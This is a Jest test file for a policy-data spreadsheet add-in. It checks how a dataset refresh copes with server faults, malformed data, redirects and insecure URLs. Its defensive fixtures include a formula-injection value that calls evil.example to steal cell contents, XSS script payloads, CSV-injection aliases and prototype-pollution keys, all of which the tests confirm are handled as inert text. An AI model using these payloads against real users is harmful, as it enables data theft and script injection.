/**
 * The fault matrix of issue 6: a real HTTP server on 127.0.0.1 serves, in turn, a good newer
 * dataset, error statuses, a response that never comes or never ends, a slow drip, an endless
 * stream, truncated JSON, HTML, schema-invalid JSON, an older version, hostile strings and keys,
 * and redirects. For each: the loaded data is untouched unless the response was good, the user
 * gets the right message in both languages, nothing hangs, and the saved data survives a restart.
 */
import { aisource, airegions, aisubsidy } from "../../src/core/formulas";
import type { Dataset } from "../../src/core/schema";
import { DATASET_KEY, restorePersistedDataset } from "../../src/data/persist";
import { refreshDataset, type RefreshOptions, type RefreshProgress, type RefreshResult } from "../../src/data/refresh";
import { memoryStorage, type KeyValueStorage } from "../../src/data/storage";
import { currentAtlas, loadedData, resetStoreForTests } from "../../src/data/store";
import { byId, variant } from "../support/datasets";
import {
  dropMidway,
  neverAnswer,
  neverEnd,
  redirect,
  serve,
  slowly,
  startFaultServer,
  stream,
  type FaultServer,
} from "../support/fault-server";

/** What is loaded and saved before each fault: a refreshed dataset, newer than the bundled one. */
const BASE = variant("2025.03.25");
const NEWER = variant("2025.04.01", (d) => {
  byId(d.incentives, "cdht-model").cap = 35_000_000;
  byId(d.incentives, "cdht-compute").cap = 6_000_000;
  d.incentives.push({ ...structuredClone(byId(d.incentives, "cdht-model")), id: "cdht-model-plus", cap: 1_000_000 });
});
const OLDER = variant("2025.03.24", (d) => {
  byId(d.incentives, "cdht-model").cap = 25_000_000;
});
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"click")';
const HOSTILE = variant("2025.04.02", (d) => {
  byId(d.regions, "chengdu-hitech").name.en = HOSTILE_NAME;
  byId(d.regions, "chengdu-hitech").aliases.push("+SUM(1,2)", "@cmd", "-2+3");
  byId(d.sources, "xinhua-chengdu-hitech").title = "<script>alert('x')</script><img src=x onerror=alert(1)>";
  d.policies[0].title.en = "</td><b>bold</b>";
});
const SCHEMA_INVALID = variant("2025.04.03", (d) => {
  (d.incentives[0] as { cap: unknown }).cap = -5;
  (d.regions[1] as { level: unknown }).level = "galaxy";
});
const DANGLING = variant("2025.04.04", (d) => {
  d.incentives[0].regionId = "atlantis";
});

const json = (d: Dataset): string => JSON.stringify(d);
/** NEWER as a data team still on format 1 would publish it: prose conditions, no package fields. */
const FORMAT_1_JSON = JSON.stringify({
  ...NEWER,
  schemaVersion: 1,
  incentives: NEWER.incentives.map(({ basisField: _b, multiplier: _m, ...i }) => ({
    ...i,
    conditions: i.conditions.map(({ zh, en }) => ({ zh, en })),
  })),
});
const FORMAT_3_JSON = JSON.stringify({ ...NEWER, schemaVersion: 3 });
const newerJson = json(NEWER);
const PROTO_JSON = newerJson
  .replace('{"schemaVersion":2', '{"__proto__":{"polluted":"yes"},"schemaVersion":2')
  .replace('"id":"guangdong"', '"constructor":{"prototype":{"polluted":"yes"}},"id":"guangdong"');

let server: FaultServer;

beforeAll(async () => {
  server = await startFaultServer({
    "/base.json": serve(json(BASE)),
    "/newer.json": serve(newerJson),
    "/newer.txt": serve(newerJson, "text/plain; charset=utf-8"),
    "/vendor.json": serve(newerJson, "application/vnd.atlas+json"),
    "/same.json": serve(json(BASE)),
    "/older.json": serve(json(OLDER)),
    "/hostile.json": serve(json(HOSTILE)),
    "/proto.json": serve(PROTO_JSON),
    "/format-1.json": serve(FORMAT_1_JSON),
    "/format-3.json": serve(FORMAT_3_JSON),
    "/500": serve("Internal Server Error", "text/plain", 500),
    "/404": serve("<h1>Not Found</h1>", "text/html", 404),
    "/never-answers": neverAnswer(),
    "/never-ends": neverEnd(newerJson.slice(0, 1000)),
    "/drip": stream("/drip", " ", 20),
    "/endless": stream("/endless", "x".repeat(16 * 1024), 1),
    "/declared-huge": (_req, res) => res.writeHead(200, { "content-type": "application/json", "content-length": 500_000_000 }).write("{"),
    "/truncated.json": serve(newerJson.slice(0, Math.floor(newerJson.length * 0.6))),
    "/dropped.json": dropMidway(newerJson),
    "/page.html": serve("<!doctype html><html><body>Sign in</body></html>", "text/html; charset=utf-8"),
    "/page-as-json": serve("<!doctype html><html><body>Sign in</body></html>"),
    "/binary": serve("PK\u0003\u0004", "application/octet-stream"),
    "/no-type": (_req, res) => res.end(newerJson),
    "/latin1.json": (_req, res) =>
      res.writeHead(200, { "content-type": "application/json" }).end(Buffer.from([0x7b, 0x22, 0xe9, 0xff, 0x22, 0x7d])),
    "/schema.json": serve(json(SCHEMA_INVALID)),
    "/dangling.json": serve(json(DANGLING)),
    "/not-a-dataset.json": serve('{"hello":"world"}'),
    "/redirect-http": redirect("http://atlas-data.example.com/atlas-dataset.json"),
    "/redirect-local": redirect("/newer.json", 301),
    "/redirect-loop": redirect("/redirect-loop"),
    "/slow-good.json": slowly(newerJson, 8, 200),
  });
});

afterAll(async () => {
  await server.close();
  resetStoreForTests();
});

let map: Map<string, string>;
let storage: KeyValueStorage;
let goodAtlas: ReturnType<typeof currentAtlas>;
let savedCopy: string | undefined;

beforeEach(async () => {
  resetStoreForTests();
  map = new Map();
  storage = memoryStorage(map);
  const base = await refreshDataset({ url: server.url("/base.json"), storage });
  expect(base).toMatchObject({ status: "updated", persistence: "saved" });
  goodAtlas = currentAtlas();
  savedCopy = map.get(DATASET_KEY);
  expect(goodAtlas.dataset.version).toBe("2025.03.25");
});

/** Refresh with short limits, timing it. */
async function refreshFrom(pathOrUrl: string, extra: Partial<RefreshOptions> = {}): Promise<{ result: RefreshResult; ms: number }> {
  const start = Date.now();
  const url = pathOrUrl.startsWith("/") ? server.url(pathOrUrl) : pathOrUrl;
  const result = await refreshDataset({ url, storage, timeoutMs: 400, maxBytes: 256 * 1024, ...extra });
  return { result, ms: Date.now() - start };
}

/** After a restart (new storage reader over the same saved map), the saved dataset is what loads. */
async function versionAfterRestart(): Promise<string> {
  resetStoreForTests();
  const restored = await restorePersistedDataset(memoryStorage(map));
  expect(restored.status).toBe("restored");
  return currentAtlas().dataset.version;
}

interface Fault {
  name: string;
  path: string;
  code: string;
  en: RegExp;
  zh: RegExp;
  detail: RegExp;
  options?: Partial<RefreshOptions>;
  /** The most it may take, in ms. */
  within?: number;
}

const faults: Fault[] = [
  { name: "HTTP 500", path: "/500", code: "http", en: /server had a problem \(HTTP 500\)/, zh: /HTTP 500/, detail: /500/ },
  { name: "HTTP 404", path: "/404", code: "http", en: /No dataset was found .*HTTP 404/, zh: /没有找到数据集/, detail: /404/ },
  {
    name: "no answer at all (timeout)",
    path: "/never-answers",
    code: "timeout",
    en: /within 0\.4 seconds/,
    zh: /0\.4 秒/,
    detail: /400 ms.*requesting/,
    within: 1500,
  },
  {
    name: "a response that never ends (timeout)",
    path: "/never-ends",
    code: "timeout",
    en: /within 0\.4 seconds/,
    zh: /0\.4 秒/,
    detail: /400 ms.*reading/,
    within: 1500,
  },
  {
    name: "a slow drip (timeout)",
    path: "/drip",
    code: "timeout",
    en: /did not deliver/,
    zh: /未在/,
    detail: /400 ms.*reading/,
    within: 1500,
  },
  {
    name: "an endless stream over the size limit",
    path: "/endless",
    code: "too-large",
    en: /larger than the 0\.25 MB limit/,
    zh: /0\.25 MB/,
    detail: /more than 262144 bytes/,
    options: { timeoutMs: 5000 },
    within: 1500,
  },
  {
    name: "a declared Content-Length over the limit",
    path: "/declared-huge",
    code: "too-large",
    en: /larger than/,
    zh: /大小上限/,
    detail: /content-length 500000000/,
    options: { timeoutMs: 5000 },
    within: 1500,
  },
  { name: "truncated JSON", path: "/truncated.json", code: "json", en: /not valid JSON/, zh: /不是有效的 JSON/, detail: /SyntaxError/ },
  {
    name: "connection dropped mid-body",
    path: "/dropped.json",
    code: "network",
    en: /connection broke off/,
    zh: /连接中断/,
    detail: /reading/,
  },
  {
    name: "HTML instead of JSON",
    path: "/page.html",
    code: "content-type",
    en: /a web page \(text\/html\)/,
    zh: /网页/,
    detail: /text\/html/,
  },
  {
    name: "HTML labelled as JSON",
    path: "/page-as-json",
    code: "json",
    en: /not valid JSON/,
    zh: /JSON/,
    detail: /looks like an HTML page/,
  },
  {
    name: "a binary file",
    path: "/binary",
    code: "content-type",
    en: /type application\/octet-stream/,
    zh: /octet-stream/,
    detail: /octet-stream/,
  },
  { name: "no content type", path: "/no-type", code: "content-type", en: /without a content type/, zh: /未标明内容类型/, detail: /''/ },
  { name: "bytes that are not UTF-8", path: "/latin1.json", code: "json", en: /not valid JSON/, zh: /JSON/, detail: /not UTF-8/ },
  {
    name: "valid JSON failing the schema",
    path: "/schema.json",
    code: "schema",
    en: /not a valid AI Policy Atlas dataset \(2 problems/,
    zh: /2 处问题/,
    detail: /regions\[1\]\.level: .*\n.*incentives\[0\]\.cap/s,
  },
  {
    name: "a broken reference",
    path: "/dangling.json",
    code: "schema",
    en: /\(2 problems;/,
    zh: /2 处问题/,
    detail: /incentive cdht-compute refers to unknown region 'atlantis'/,
  },
  {
    name: "a dataset still in format 1 (no machine-readable conditions)",
    path: "/format-1.json",
    code: "schema-version",
    en: /uses data format 1; this add-in needs format 2.*Ask your data team/,
    zh: /第 1 版数据格式；本加载项需要第 2 版格式/,
    detail: /schemaVersion 1; this add-in reads 2/,
  },
  {
    name: "a dataset in a newer format",
    path: "/format-3.json",
    code: "schema-version",
    en: /format 3, which is newer .*Update the add-in/,
    zh: /请更新加载项/,
    detail: /schemaVersion 3/,
  },
  { name: "JSON that is not a dataset", path: "/not-a-dataset.json", code: "schema", en: /not a valid/, zh: /数据集/, detail: /hello/ },
  {
    name: "__proto__ / constructor / prototype keys",
    path: "/proto.json",
    code: "schema",
    en: /not a valid AI Policy Atlas dataset \(1 problem/,
    zh: /1 处问题/,
    detail: /'__proto__', 'prototype', 'constructor'/,
  },
  {
    name: "a redirect loop",
    path: "/redirect-loop",
    code: "too-many-redirects",
    en: /redirected the download too many times/,
    zh: /重定向次数过多/,
    detail: /more than 5 redirects/,
  },
  {
    name: "an insecure configured URL",
    path: "http://atlas-data.example.com/atlas-dataset.json",
    code: "insecure-url",
    en: /must start with https/,
    zh: /https/,
    detail: /http:\/\/atlas-data\.example\.com/,
  },
  { name: "a javascript: URL", path: "javascript:alert(1)", code: "insecure-url", en: /https/, zh: /https/, detail: /javascript:/ },
  {
    name: "not a URL",
    path: "atlas dataset please",
    code: "invalid-url",
    en: /not a valid web address/,
    zh: /不是有效的网址/,
    detail: /not an absolute URL/,
  },
  {
    name: "credentials in the URL",
    path: "https://user:secret@atlas.example.com/x.json",
    code: "invalid-url",
    en: /not a valid/,
    zh: /网址/,
    detail: /user name or password/,
  },
];

describe("a failed refresh leaves the loaded and the saved data untouched", () => {
  test.each(faults)("$name → $code", async (fault) => {
    const { result, ms } = await refreshFrom(fault.path, fault.options);
    if (result.status !== "failed") throw new Error(`expected a failure, got ${JSON.stringify(result).slice(0, 300)}`);
    expect(result.error.code).toBe(fault.code);
    expect(result.error.message.en).toMatch(fault.en);
    expect(result.error.message.en).toMatch(/Your current data is unchanged\.$/);
    expect(result.error.message.zh).toMatch(fault.zh);
    expect(result.error.message.zh).toMatch(/当前数据保持不变。$/);
    expect(result.error.detail).toMatch(fault.detail);
    expect(ms).toBeLessThan(fault.within ?? 1000);
    expect(currentAtlas()).toBe(goodAtlas);
    expect(loadedData().origin).toBe("refreshed");
    expect(map.get(DATASET_KEY)).toBe(savedCopy);
    expect(await versionAfterRestart()).toBe("2025.03.25");
  });

  test("the HTTP status is reported with the error", async () => {
    const { result } = await refreshFrom("/500");
    expect(result).toMatchObject({ status: "failed", error: { code: "http", status: 500 } });
  });

  test("schema problems are readable lines, available one by one", async () => {
    const { result } = await refreshFrom("/schema.json");
    if (result.status !== "failed") throw new Error("expected a failure");
    expect(result.error.problems).toEqual([
      'regions[1].level: Invalid option: expected one of "province"|"city"|"district"',
      "incentives[0].cap: Too small: expected number to be >=0",
    ]);
  });

  test("prototype-shaped keys pollute nothing", async () => {
    await refreshFrom("/proto.json");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty("polluted");
  });

  test("an endless stream is cut off at the limit, not read to the end", async () => {
    const { result } = await refreshFrom("/endless", { timeoutMs: 5000 });
    expect(result).toMatchObject({ status: "failed", error: { code: "too-large" } });
    await server.clientGone("/endless");
    const written = server.bytesWritten.get("/endless") ?? 0;
    // The client hung up: the server stops writing. Left alone, it would have sent 16 MB a second for the 5 s timeout.
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(server.bytesWritten.get("/endless")).toBe(written);
    expect(written).toBeLessThan(8 * 1024 * 1024);
  });

  test("a redirect to plain http on another host is refused before it is requested", async () => {
    const fetchImpl = jest.fn((input: RequestInfo | URL, init?: RequestInit) => fetch(input, init));
    const { result } = await refreshFrom("/redirect-http", { fetchImpl });
    expect(result).toMatchObject({ status: "failed", error: { code: "redirect-insecure" } });
    if (result.status !== "failed") return;
    expect(result.error.message.en).toMatch(/redirected the download to an insecure \(http\) address/);
    expect(result.error.message.zh).toMatch(/不安全的（http）地址/);
    expect(result.error.detail).toContain("http://atlas-data.example.com/atlas-dataset.json");
    expect(fetchImpl.mock.calls.map(([input]) => String(input))).toEqual([server.url("/redirect-http")]);
    expect(fetchImpl.mock.calls[0][1]).toMatchObject({ redirect: "manual" });
    expect(currentAtlas()).toBe(goodAtlas);
  });

  test("nothing listening at the address → network", async () => {
    const closed = await startFaultServer({});
    const url = closed.url("/atlas.json");
    await closed.close();
    const { result, ms } = await refreshFrom(url);
    expect(result).toMatchObject({ status: "failed", error: { code: "network" } });
    expect(ms).toBeLessThan(1000);
    expect(currentAtlas()).toBe(goodAtlas);
  });

  test("the user cancels a download in progress → aborted", async () => {
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 50);
    const { result, ms } = await refreshFrom("/never-ends", { signal: controller.signal, timeoutMs: 5000 });
    expect(result).toMatchObject({
      status: "failed",
      error: { code: "aborted", message: { en: "The refresh was cancelled. Your current data is unchanged." } },
    });
    expect(ms).toBeLessThan(1000);
    expect(currentAtlas()).toBe(goodAtlas);
  });

  test("an already-cancelled signal requests nothing", async () => {
    const fetchImpl = jest.fn(fetch);
    const { result } = await refreshFrom("/newer.json", { signal: AbortSignal.abort(), fetchImpl });
    expect(result).toMatchObject({ status: "failed", error: { code: "aborted" } });
    expect(fetchImpl).not.toHaveBeenCalled();
  });

  test("an insecure URL is refused without a request", async () => {
    const fetchImpl = jest.fn(fetch);
    const { result } = await refreshFrom("http://atlas-data.example.com/a.json", { fetchImpl });
    expect(result).toMatchObject({ status: "failed", error: { code: "insecure-url" } });
    expect(fetchImpl).not.toHaveBeenCalled();
  });
});

describe("a good response is swapped in, saved and survives a restart", () => {
  test("a newer dataset: updated, with the change summary and per-record differences", async () => {
    const phases: RefreshProgress[] = [];
    const { result } = await refreshFrom("/newer.json", { onProgress: (p) => phases.push(p) });
    if (result.status !== "updated") throw new Error(`expected an update, got ${JSON.stringify(result).slice(0, 300)}`);
    expect(result.from).toEqual({ version: "2025.03.25", asOf: "2025-03-25" });
    expect(result.to).toEqual({ version: "2025.04.01", asOf: "2025-04-01" });
    expect(result.changes.summary).toEqual({
      en: "2025.03.25 → 2025.04.01: 2 incentives changed, 1 added",
      zh: "2025.03.25 → 2025.04.01：2 条补贴变更，新增 1 条",
    });
    expect(result.message.en).toBe("Data updated. 2025.03.25 → 2025.04.01: 2 incentives changed, 1 added");
    expect(result.changes.records.map((r) => r.text)).toEqual([
      "incentive cdht-compute: cap 5000000 → 6000000",
      "incentive cdht-model: cap 30000000 → 35000000",
      "incentive cdht-model-plus added",
    ]);
    expect(result.persistence).toBe("saved");
    expect(result.loaded).toBe(loadedData());
    expect(loadedData()).toMatchObject({ origin: "refreshed", url: server.url("/newer.json") });
    expect(aisubsidy(currentAtlas(), "成都高新区", "model", 200_000_000)).toBe(35_000_000);
    expect([...new Set(phases.map((p) => p.phase))]).toEqual(["fetching", "validating", "swapping", "saving"]);
    expect(phases.filter((p) => p.phase === "fetching").at(-1)).toMatchObject({
      bytes: Buffer.byteLength(newerJson),
      totalBytes: Buffer.byteLength(newerJson),
    });
    expect(await versionAfterRestart()).toBe("2025.04.01");
    expect(loadedData()).toMatchObject({ origin: "stored", url: server.url("/newer.json") });
  });

  test.each([
    ["text/plain (static hosts)", "/newer.txt"],
    ["a vendor +json type", "/vendor.json"],
    ["a same-origin redirect on localhost", "/redirect-local"],
    ["a slow but finished download", "/slow-good.json"],
  ])("%s is accepted", async (_name, path) => {
    const { result } = await refreshFrom(path, { timeoutMs: 3000 });
    expect(result).toMatchObject({ status: "updated", to: { version: "2025.04.01" }, persistence: "saved" });
    expect(loadedData().url).toBe(server.url(path === "/redirect-local" ? "/newer.json" : path));
    expect(await versionAfterRestart()).toBe("2025.04.01");
  });

  test("the same version and content: unchanged, nothing swapped", async () => {
    const { result } = await refreshFrom("/same.json");
    expect(result).toEqual({
      status: "unchanged",
      version: { version: "2025.03.25", asOf: "2025-03-25" },
      message: {
        en: "The data is up to date (version 2025.03.25, as of 2025-03-25).",
        zh: "数据已是最新（版本 2025.03.25，截至 2025-03-25）。",
      },
    });
    expect(currentAtlas()).toBe(goodAtlas);
    expect(map.get(DATASET_KEY)).toBe(savedCopy);
  });

  test("an older version needs confirmation, then swaps when allowed", async () => {
    const { result } = await refreshFrom("/older.json");
    expect(result).toMatchObject({
      status: "older-needs-confirmation",
      loaded: { version: "2025.03.25" },
      offered: { version: "2025.03.24" },
      message: { en: expect.stringMatching(/older than the loaded one.*Load the older data anyway\?/), zh: expect.stringMatching(/更旧/) },
    });
    expect(currentAtlas()).toBe(goodAtlas);
    expect(map.get(DATASET_KEY)).toBe(savedCopy);
    expect(await versionAfterRestart()).toBe("2025.03.25");

    const confirmed = await refreshFrom("/older.json", { allowOlder: true });
    expect(confirmed.result).toMatchObject({ status: "updated", to: { version: "2025.03.24" }, persistence: "saved" });
    expect(aisubsidy(currentAtlas(), "成都高新区", "model", 200_000_000)).toBe(25_000_000);
    expect(await versionAfterRestart()).toBe("2025.03.24");
  });

  test("hostile strings are loaded as inert text, exactly as served", async () => {
    const { result } = await refreshFrom("/hostile.json");
    expect(result).toMatchObject({ status: "updated", to: { version: "2025.04.02" } });
    const atlas = currentAtlas();
    expect(atlas.regionOf("chengdu-hitech")?.name.en).toBe(HOSTILE_NAME);
    expect(atlas.source("xinhua-chengdu-hitech")?.title).toBe("<script>alert('x')</script><img src=x onerror=alert(1)>");
    expect(atlas.dataset.policies[0].title.en).toBe("</td><b>bold</b>");
    // The formula API hands them back as plain strings (the Excel writers write text as text).
    expect(airegions(atlas, "en")).toContainEqual([HOSTILE_NAME]);
    expect(atlas.region(HOSTILE_NAME).id).toBe("chengdu-hitech");
    expect(aisubsidy(atlas, "成都高新区", "model")).toBe(30_000_000);
    expect(aisource(atlas, "成都高新区", "model")).toEqual(
      expect.stringContaining("《<script>alert('x')</script><img src=x onerror=alert(1)>》"),
    );
    expect(await versionAfterRestart()).toBe("2025.04.02");
    expect(currentAtlas().regionOf("chengdu-hitech")?.aliases).toEqual(expect.arrayContaining(["+SUM(1,2)", "@cmd", "-2+3"]));
  });
});

describe("saving can fail without losing anything", () => {
  test("a full store: the new data stays loaded, the old saved copy stays saved, the user is told", async () => {
    const full: KeyValueStorage = {
      ...memoryStorage(map),
      setItem: async () => {
        throw new DOMException("The quota has been exceeded.", "QuotaExceededError");
      },
    };
    const result = await refreshDataset({ url: server.url("/newer.json"), storage: full });
    expect(result).toMatchObject({ status: "updated", persistence: "not-saved", saveError: { code: "storage" } });
    if (result.status !== "updated") return;
    expect(result.saveError?.message.en).toMatch(/loaded, but it could not be saved/);
    expect(result.saveError?.message.zh).toMatch(/无法保存/);
    expect(result.saveError?.detail).toMatch(/QuotaExceededError/);
    expect(currentAtlas().dataset.version).toBe("2025.04.01");
    expect(map.get(DATASET_KEY)).toBe(savedCopy);
    expect(await versionAfterRestart()).toBe("2025.03.25");
  });

  test("without a storage, a refresh swaps and saves nothing", async () => {
    const result = await refreshDataset({ url: server.url("/newer.json") });
    expect(result).toMatchObject({ status: "updated", persistence: "skipped" });
    expect(map.get(DATASET_KEY)).toBe(savedCopy);
  });
});
